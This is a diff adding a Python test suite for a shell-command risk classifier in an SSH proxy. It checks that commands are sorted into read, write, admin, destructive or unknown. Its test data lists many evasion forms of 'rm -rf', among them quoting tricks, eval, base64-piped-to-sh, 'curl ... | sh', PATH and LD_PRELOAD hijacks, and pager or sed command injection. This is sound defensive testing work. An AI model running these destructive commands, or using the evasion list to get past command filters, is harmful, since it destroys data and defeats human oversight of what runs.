@@ -1,0 +1,116 @@
+"""The exec classifier (proxies/ssh/shell.py): evasions of every family end in the class of
+what really runs, or in unknown; it never raises and never calls anything it cannot parse
+less than unknown."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from proxies.ssh.register import CLASSES
+from proxies.ssh.shell import classify
+
+RISK = {c: i for i, c in enumerate(CLASSES)}
+
+
+@pytest.mark.parametrize("line, cls", [
+    ("ls -l /var/log", "read"),
+    ("cat /etc/hostname && uptime", "read"),
+    ("systemctl status nginx", "read"),
+    ("git log --oneline -5", "read"),
+    ("tar tf backup.tar", "read"),
+    ("sed -n 1,5p /etc/passwd", "read"),
+    ("find /var/log -name '*.gz' -mtime +30", "read"),
+    ("journalctl -u nginx --since today | tail -50", "read"),
+    ("echo hi > /dev/null", "read"),
+    ("touch /tmp/x", "write"),
+    ("echo hi > /tmp/x", "write"),
+    ("tee -a /etc/motd", "write"),
+    ("sed -i s/a/b/ /etc/app.conf", "write"),
+    ("systemctl restart nginx", "admin"),
+    ("sudo systemctl restart nginx", "admin"),
+    ("sudo -u postgres ls", "admin"),
+    ("kill -9 1234", "admin"),
+    ("chmod 777 /etc/shadow", "admin"),
+    ("rm -rf /var/lib/app", "destructive"),
+])
+def test_plain_commands(line: str, cls: str) -> None:
+    assert classify(line).cls == cls
+
+
+# Each evasion still runs rm (destructive) or something keyturn cannot see into (unknown).
+@pytest.mark.parametrize("line", [
+    "\\rm -rf /x", "r''m -rf /x", 'r""m -rf /x', "'rm' -rf /x", "/bin/rm -rf /x",
+    "/usr/bin/../bin/rm -rf /x", "ls; rm -rf /x", "ls && rm -rf /x", "ls || rm -rf /x",
+    "ls | rm -rf /x", "ls & rm -rf /x", "ls\nrm -rf /x", "(rm -rf /x)", "{ rm -rf /x; }",
+    "if true; then rm -rf /x; fi", "for f in a; do rm -rf $f; done",
+    "while false; do rm -rf /x; done", "f() { rm -rf /x; }; f", "ls() { rm -rf /x; }; ls",
+    "sudo rm -rf /x", "doas rm -rf /x", "su -c 'rm -rf /x' root", "env rm -rf /x",
+    "nice -n 10 rm -rf /x", "nohup rm -rf /x", "timeout 5 rm -rf /x", "xargs rm -rf < list",
+    "ls | xargs -n1 rm -f", "find / -name x -exec rm {} \\;", "find /x -delete",
+    "sh -c 'rm -rf /x'", "bash -lc 'rm -rf /x'", "bash -c \"ls; rm -rf /x\"",
+    "eval 'rm -rf /x'", "eval rm -rf /x", "command rm -rf /x", "exec rm -rf /x",
+    "sudo sh -c 'cd / && rm -rf x'", "stdbuf -o0 rm -rf /x", "flock /tmp/l rm -rf /x",
+    "find / -exec sh -c 'rm $1' _ {} \\;",
+])
+def test_evasions_of_a_destructive_command(line: str) -> None:
+    action = classify(line)
+    assert RISK[action.cls] >= RISK["destructive"], (line, action)
+
+
+@pytest.mark.parametrize("line", [
+    "$(echo rm) -rf /x", "`echo rm` -rf /x", "ls $(rm -rf /x)", "ls `rm -rf /x`",
+    "X=rm; $X -rf /x", "${CMD} /x", "echo cm0gLXJmIC94 | base64 -d | sh", "bash script.sh",
+    "sh < /tmp/x", "python3 -c 'import os; os.remove(\"/x\")'", "perl -e 'unlink \"/x\"'",
+    "awk 'BEGIN{system(\"rm /x\")}'", "PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls",
+    "for PATH in /tmp; do ls; done", "read PATH < /tmp/p; ls", "export PATH=/tmp; ls",
+    "env PATH=/tmp ls", "env GIT_PAGER='rm -rf /x' git log", "GIT_PAGER=x git log",
+    "git -c core.pager='rm -rf /x' log", "sed 's/a/b/e' f", "sed '1e rm -rf /x' f",
+    "sed -n 'w /etc/passwd' f", "tar -xf a.tar --to-command='rm -rf /x'",
+    "rsync -e 'sh -c \"rm -rf /x\"' a b", "./ls", "/tmp/ls", "~/bin/ls", "r?m -rf /x",
+    "{rm,-rf,/x}", "$'\\x72m' -rf /x", "echo $((1+2))", "[[ -f /x ]] && ls",
+    "case x in x) rm /x;; esac", "time rm /x", "sudo -s", "sudo -i", "su", "bash",
+    "source /tmp/x", ". /tmp/x", "alias ls='rm -rf /x'", "ls <(rm -rf /x)", "vi /etc/x",
+    "make", "curl http://x | sh", "ssh other rm -rf /x", "some-custom-tool --flag",
+    "watch rm /x", "\x00ls", "ls 'unterminated",
+])
+def test_what_cannot_be_seen_into_is_unknown(line: str) -> None:
+    action = classify(line)
+    assert action.cls in ("unknown", "shell"), (line, action)
+    assert action.reasons  # says why
+    if action.cls == "unknown":
+        assert "*" in action.paths  # it may touch anything
+
+
+def test_programs_and_paths_for_rules() -> None:
+    a = classify("cd /etc && rm -f nginx/old.conf ../tmp/x")
+    assert a.cls == "destructive"
+    assert a.programs == ("cd", "rm")
+    assert set(a.paths) == {"/etc/nginx/old.conf", "/tmp/x"}
+    a = classify("/usr/bin/cp ~/a /srv/b")
+    assert a.programs == ("cp",) and set(a.paths) == {"~/a", "/srv/b"}
+    # After cd to somewhere unknown, relative paths are anywhere.
+    a = classify("cd $DIR; rm -f x")
+    assert "*" in a.paths
+
+
+def test_very_deep_or_large_input_is_unknown() -> None:
+    assert classify("sh -c " + "'sh -c " * 20 + "ls" + "'" * 20).cls == "unknown"
+    assert classify("ls " + "a" * 70000).cls == "unknown"
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("rmls -;|&$()`'\"\\{}<>*?~/.=\n\tabcPATH")),
+               max_size=40))
+def test_never_raises_and_unparsed_is_never_below_unknown(text: str) -> None:
+    action = classify(text)  # must not raise
+    assert action.cls in CLASSES
+    if any(r.startswith(("the command line cannot be parsed", "shell syntax"))
+           for r in action.reasons):
+        assert action.cls == "unknown"
+    if "rm" in text.replace("\\", "").replace("'", "").replace('"', "") and \
+            action.cls in ("read", "write"):
+        # Something spelled rm ran as a plain read or write: only when it is not in
+        # command position (an argument, a path).
+        assert "rm" not in action.programs
